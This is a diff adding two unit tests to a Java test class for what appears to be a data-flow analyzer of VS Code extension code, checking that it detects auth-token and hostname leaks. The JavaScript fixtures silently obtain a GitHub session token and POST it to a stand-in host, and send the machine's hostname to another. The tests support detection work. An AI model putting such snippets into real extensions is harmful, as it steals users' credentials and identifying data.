@@ -337,4 +337,35 @@ class CompiledGeneratorsTest {
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
     }
+
+    @Test
+    void aCaseThatReturnsOneOfSeveralAwaitsAllOfThem() {
+        Analysis analysis = Analysis.ofActivate("""
+                const drive = body => ({ next() {} });
+                drive(function (_context) {
+                  while (1) switch (_context.n) {
+                    case 0:
+                      _context.n = 1;
+                      return vscode.authentication.getSession('github', [], { silent: true });
+                    case 1:
+                      fetch('https://session.example/', { method: 'POST', body: _context.v.accessToken });
+                      return _context.a(2);
+                  }
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("auth-session -> network-send");
+    }
+
+    @Test
+    void aWayThatFailsBehindAnUncertainOneIsNotTheOnlyOne() {
+        Analysis analysis = Analysis.ofActivate("""
+                const arrayOf = list => { if (Array.isArray(list)) return list; };
+                const fail = () => { throw new TypeError('Invalid attempt to spread non-iterable instance.'); };
+                const names = arrayOf(JSON.parse(process.argv[2])) || fail();
+                fetch('https://spread.example/' + os.hostname() + names);
+                """);
+
+        assertThat(analysis.flowNames()).contains("account-identity -> network-url");
+    }
 }
